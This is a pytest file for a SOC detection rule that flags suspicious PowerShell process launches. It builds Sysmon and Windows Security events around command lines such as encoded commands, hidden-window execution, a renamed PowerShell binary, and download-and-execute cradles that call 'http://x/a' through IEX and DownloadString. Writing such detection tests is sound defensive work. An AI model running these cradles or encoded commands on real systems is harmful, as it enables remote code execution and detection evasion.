"""rules/soc/windows/proc_creation_win_powershell_suspicious_cmdline.yml."""

from __future__ import annotations

import pytest

from soc.model.event import Event

SUSPICIOUS_POWERSHELL = "e6f6ad6c-5f63-438b-a8ec-01a8b38067b9"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
PWSH = r"C:\Program Files\PowerShell\7\pwsh.exe"


def process_creation(
    command_line: str,
    image: str = POWERSHELL,
    *,
    original_file_name: str = "PowerShell.EXE",
    channel: str = "Microsoft-Windows-Sysmon/Operational",
    code: str = "1",
) -> Event:
    dataset = "windows.security" if channel == "Security" else "windows.sysmon_operational"
    return {
        "@timestamp": "2026-11-20T10:01:02.345Z",
        "event": {"id": "p1", "dataset": dataset, "module": "windows", "code": code},
        "winlog": {
            "channel": channel,
            "event_id": code,
            "record_id": 90211,
            "provider_name": "Microsoft-Windows-Sysmon",
            "computer_name": "KT-PC01.so-tc.local",
            "event_data": {
                "CommandLine": command_line,
                "Image": image,
                "OriginalFileName": original_file_name,
                "ParentImage": r"C:\Windows\explorer.exe",
            },
        },
        "process": {
            "command_line": command_line,
            "executable": image,
            "name": image.rsplit("\\", 1)[-1],
            "pid": 5120,
            "parent": {"executable": r"C:\Windows\explorer.exe"},
        },
        "user": {"name": "nguyenvana"},
        "host": {"name": "KT-PC01"},
        "organization": {"id": "so-tc"},
    }


@pytest.mark.parametrize(
    "event",
    [
        process_creation("powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA="),
        process_creation("powershell.exe -EncodedCommand SQBFAFgA"),
        process_creation("powershell.exe -e SQBFAFgA"),
        process_creation("POWERSHELL.EXE -ENC SQBFAFgA"),
        process_creation("powershell.exe /enc SQBFAFgA"),
        process_creation('"pwsh.exe" -ec SQBFAFgA', PWSH, original_file_name="pwsh.dll"),
        process_creation("powershell.exe -nop -w hidden -c Start-Sleep 1"),
        process_creation("powershell.exe -NoProfile -WindowStyle Hidden -File a.ps1"),
        process_creation(
            "powershell.exe -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\""
        ),
        process_creation("powershell.exe Invoke-Expression $wc.DownloadString('http://x/b')"),
        # Renamed binary: still PowerShell by its original file name.
        process_creation(r"C:\Users\Public\svc.exe -enc SQBFAFgA", r"C:\Users\Public\svc.exe"),
        # Security 4688 carries the same ECS process fields.
        process_creation("powershell.exe -enc SQBFAFgA", channel="Security", code="4688"),
    ],
)
def test_suspicious_powershell_alerts(run_rule, event: Event) -> None:
    rows = run_rule(SUSPICIOUS_POWERSHELL, [event])
    assert [(r["event_id"], r["entity"]) for r in rows] == [("p1", "nguyenvana")]


@pytest.mark.parametrize(
    "event",
    [
        process_creation("powershell.exe -File C:\\scripts\\backup.ps1"),
        process_creation("powershell.exe -ExecutionPolicy Bypass -File a.ps1"),
        process_creation("powershell.exe -nop -File a.ps1"),
        process_creation("powershell.exe -w hidden -File a.ps1"),
        process_creation('powershell.exe -c "IEX $command"'),
        process_creation("powershell.exe -c (New-Object Net.WebClient).DownloadFile('a','b')"),
        process_creation(
            "cmd.exe /c echo -enc SQBFAFgA",
            r"C:\Windows\System32\cmd.exe",
            original_file_name="Cmd.Exe",
        ),
        # Right command line, wrong event: Sysmon 3 is a network connection.
        process_creation("powershell.exe -enc SQBFAFgA", code="3"),
        process_creation("powershell.exe -enc SQBFAFgA", channel="Security", code="4624"),
    ],
)
def test_ordinary_processes_do_not_alert(run_rule, event: Event) -> None:
    assert run_rule(SUSPICIOUS_POWERSHELL, [event]) == []
